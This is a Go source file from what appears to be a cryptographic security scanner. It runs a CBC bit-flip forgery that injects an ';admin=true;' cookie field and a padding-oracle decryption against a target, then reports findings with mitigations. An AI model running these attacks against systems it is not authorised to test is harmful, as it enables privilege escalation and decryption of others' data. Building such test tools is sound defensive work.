package cbc

import (
	"context"
	"time"

	"blockprobe/internal/attack"
	"blockprobe/internal/oracle"
	"blockprobe/internal/probes"
	"blockprobe/internal/report"
	"blockprobe/pkg/logx"
)

type Options struct {
	Target string
	Seed   string
	// Trials is the number of padding-oracle challenges to decrypt.
	Trials int
	DryRun bool
}

// AdminPayload is the field the bit-flip forgery smuggles past the cookie sanitizer.
const AdminPayload = ";admin=true;"

func Run(ctx context.Context, opt Options) (*report.Results, error) {
	t, err := probes.NewTarget(opt.Target, opt.Seed)
	if err != nil { return nil, err }
	r := &report.Results{TargetType: "cbc", Targets: []string{t.Label()}, Seed: opt.Seed, GeneratedAt: time.Now().UTC()}
	if opt.DryRun {
		r.Note("dry run: no oracle queries sent")
		for _, name := range []string{"CBC bit-flip privilege escalation", "Padding oracle decryption"} {
			r.Add(report.Finding{Name: name, Category: "CBC oracle", Severity: report.Low, Status: report.Inconclusive, Timestamp: time.Now().UTC()})
		}
		return r, nil
	}

	// Bit-flip
	cookie := t.Encrypter(oracle.NameCookie)
	f, err := attack.BitFlip(ctx, cookie, []byte(AdminPayload), []byte(";="))
	ev := map[string]any{"oracle": oracle.NameCookie, "payload": AdminPayload}
	accepted := false
	if err == nil {
		ev["prefix_len"] = f.PrefixLen
		ev["block_size"] = f.BlockSize
		accepted, err = t.Verifier(oracle.NameCookie).Verify(ctx, f.Ciphertext)
		ev["accepted"] = accepted
	}
	ev["error"] = probes.ErrString(err)
	r.Add(report.Finding{
		Name: "CBC bit-flip privilege escalation",
		Category: "Ciphertext malleability",
		Severity: report.High,
		Status: probes.Status(err, accepted),
		Evidence: ev,
		Mitigations: []string{"Authenticate ciphertexts (encrypt-then-MAC or an AEAD)", "Never trust decrypted fields without an integrity check"},
		Timestamp: time.Now().UTC(),
		Active: true,
	})

	r.Add(paddingOracle(ctx, t, opt.Trials))
	return r, nil
}

func paddingOracle(ctx context.Context, t *probes.Target, trials int) report.Finding {
	if trials <= 0 { trials = 3 }
	pv := t.Padding()
	ev := map[string]any{"oracle": oracle.NamePadding, "trials": trials}
	var (
		recovered []string
		verified  = 0
		err       error
	)
	for i := 0; i < trials && err == nil; i++ {
		var ct, iv, pt []byte
		if ct, iv, err = pv.Challenge(ctx); err != nil { break }
		if pt, err = attack.DecryptCBC(ctx, pv, ct, iv); err != nil { break }
		recovered = append(recovered, string(pt))
		if t.Local != nil && t.Local.Padding.Contains(pt) { verified++ }
		logx.Debugf("padding oracle: decrypted challenge %d (%d bytes)", i, len(pt))
	}
	ev["decrypted"] = len(recovered)
	ev["recovered"] = recovered
	if t.Local != nil { ev["verified"] = verified }
	ev["error"] = probes.ErrString(err)
	ok := len(recovered) == trials && (t.Local == nil || verified == trials)
	return report.Finding{
		Name: "Padding oracle decryption",
		Category: "Padding oracle",
		Severity: report.Critical,
		Status: probes.Status(err, ok),
		Evidence: ev,
		Mitigations: []string{"Verify a MAC before checking padding", "Return one indistinguishable error for every decryption failure"},
		Timestamp: time.Now().UTC(),
		Active: true,
	}
}
